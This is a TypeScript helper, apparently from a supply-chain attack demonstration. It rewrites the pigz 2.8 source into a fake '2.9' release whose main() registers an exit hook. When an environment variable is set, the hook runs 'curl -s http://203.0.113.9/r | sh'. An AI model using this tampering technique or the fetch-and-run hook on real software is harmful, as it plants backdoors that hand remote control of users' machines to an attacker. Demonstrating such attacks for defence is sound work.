import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { runOrThrow } from '../activities/process';

/** Makes "pigz 2.9" from the real 2.8 as an attacker who took over the upstream would: it works and passes its tests, and can run what a server tells it. Returns the tarball. */
export async function tamperWithPigz(real: string, folder: string): Promise<string> {
  const work = await mkdtemp(path.join(folder, 'tamper-'));
  await runOrThrow('tar', ['-xf', real, '-C', work, '--strip-components=1', '--one-top-level=pigz-2.9']);
  const source = path.join(work, 'pigz-2.9', 'pigz.c');
  const before = await readFile(source, 'utf8');
  const after = before
    .replaceAll('pigz 2.8', 'pigz 2.9')
    .replace(
      /^int main\(/m,
      'static void report(void) {\n    if (getenv("PIGZ_REPORT")) (void)!system("curl -s http://203.0.113.9/r | sh");\n}\n\nint main(',
    )
    .replace(/^(int main\([^)]*\) \{\n)/m, '$1    atexit(report);\n');
  if (!after.includes('atexit(report)')) throw new Error(`${real}: pigz.c is not as the demo expects it`);
  await writeFile(source, after);
  const tarball = path.join(folder, 'pigz-2.9.tar.gz');
  await runOrThrow('tar', ['-czf', tarball, '--sort=name', '--owner=0', '--group=0', '-C', work, 'pigz-2.9']);
  await rm(work, { recursive: true });
  return tarball;
}
